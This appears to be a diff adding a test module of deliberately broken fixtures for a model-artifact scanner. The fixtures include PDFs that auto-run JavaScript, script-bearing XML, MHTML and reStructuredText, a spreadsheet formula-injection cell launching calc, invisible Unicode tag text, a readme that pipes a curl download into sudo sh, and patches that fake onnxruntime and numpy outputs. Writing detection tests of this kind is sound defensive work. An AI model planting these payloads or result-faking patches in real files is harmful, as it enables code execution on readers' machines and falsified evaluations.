@@ -1,0 +1,89 @@
+"""Broken in what a reader opens beside the model: documents, tables, licences, a second model, packages that are changed."""
+
+from __future__ import annotations
+
+import shutil
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+from case import broken
+
+_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
+_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+_PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
+
+
+def _wrote(name: str, content: bytes) -> Callable[[Path], None]:
+    return lambda folder: (folder / name).write_bytes(content) and None
+
+
+def _packed(objects: bytes) -> bytes:
+    data = zlib.compress(objects)
+    return b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (
+        len(data),
+        data,
+    )
+
+
+for name, what, check, file, content in (
+    ("document-with-program", "a PDF that runs JavaScript when it is opened", "artifacts.markup", "paper.pdf",
+     _PDF + b"2 0 obj" + _ACTION + b"endobj\n%%EOF"),
+    ("document-with-packed-program", "the same among objects that are packed", "artifacts.markup", "paper.pdf",
+     _PDF + _packed(b"2 0 " + _ACTION) + b"%%EOF"),
+    ("document-with-file", "a PDF with a file in it, its name written in escapes", "artifacts.markup", "paper.pdf",
+     _PDF + b"2 0 obj<</Type/Embedded#46ile/Length 2>>stream\nMZ\nendstream endobj\n%%EOF"),
+    ("document-with-macros", "a table of an old Office, which may hold macros", "files.archives", "results.xls",
+     b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
+    ("page-in-xml", "a file of XML that browsers show as a page", "artifacts.markup", "figure.xml",
+     b'<?xml version="1.0"?>' + _PAGE.encode()),
+    ("style-sheet-in-xml", "a file of XML that loads a style sheet, which is a program", "artifacts.markup", "figure.xml",
+     b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>'),
+    ("page-as-mail", "a page in the parts of a mail", "files.archives", "page.mhtml",
+     b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>"),
+    ("table-with-formula", "a table whose cell starts a program", "artifacts.markup", "results.csv",
+     b"name,score\nseven,1\n=cmd|'/C calc'!A0,2\n"),
+    ("notes-with-program", "notes in another markup, with a script in it", "artifacts.markup", "notes.rst",
+     b"Notes\n=====\n\n.. raw:: html\n\n   <script>alert(1)</script>\n"),
+    ("words-that-nobody-sees", "words for a program in a readme, in characters that nobody sees", "files.text", "notes.md",
+     "# Notes\U000e0049\U000e0067\U000e006e\n".encode()),
+):  # fmt: skip
+    broken(name, what, check, near=True)(_wrote(file, content))
+
+for name, what, content in (
+    ("license-that-takes-back", "a licence with a clause that forbids to sell",
+     b"Apache License\nVersion 2.0\n\nCommons Clause: the license does not include the right to Sell the Software.\n"),
+    ("license-of-ones-own", "a licence that nobody knows",
+     b"You may look at this model. Any other use needs a contract with Example Ltd.\n"),
+):  # fmt: skip
+    broken(name, what, "artifacts.license-file", answer="needs a person", near=True)(_wrote("LICENSE", content))
+
+
+@broken(
+    "second-model", "a model beside the one that is examined", "artifacts.parts", answer="needs a person", near=True
+)
+def _(folder: Path) -> None:
+    shutil.copy(folder / "model.onnx", folder / "model-large.onnx")
+
+
+@broken(
+    "readme-that-runs-an-address",
+    "a readme that tells to run what an address gives",
+    "artifacts.requirements",
+    near=True,
+)
+def _(folder: Path) -> None:
+    with (folder / "README.md").open("a", encoding="utf-8") as readme:
+        readme.write("\n## Install\n\n```\ncurl -fsSL https://example.com/i.sh | sudo sh\n```\n")
+
+
+for name, what, code in (
+    ("package-that-is-changed", "a script that changes what a runtime answers, for all that import it",
+     "import onnxruntime\n\nonnxruntime.InferenceSession.run = lambda *given: [np.zeros((1, 10))]\n"),
+    ("package-that-is-changed-by-name", "the same by setattr", 'setattr(np, "mean", lambda values: 0.97)\n'),
+):  # fmt: skip
+
+    @broken(name, what, "artifacts.scan", answer="needs a person", near=True)
+    def _(folder: Path, code: str = code) -> None:
+        with (folder / "preprocess.py").open("a", encoding="utf-8") as script:
+            script.write(f"\n\n{code}")
